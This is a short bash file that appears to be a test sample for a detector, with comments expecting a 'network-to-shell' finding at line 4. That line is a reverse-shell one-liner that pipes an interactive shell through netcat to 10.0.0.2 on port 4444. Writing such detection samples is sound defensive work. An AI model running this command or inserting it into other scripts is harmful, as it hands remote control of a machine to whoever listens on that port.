#!/bin/bash
# shows: a shell between a pipe and a connection
# expect: network-to-shell at line 4
cat /tmp/p | sh -i 2>&1 | nc 10.0.0.2 4444 >/tmp/p
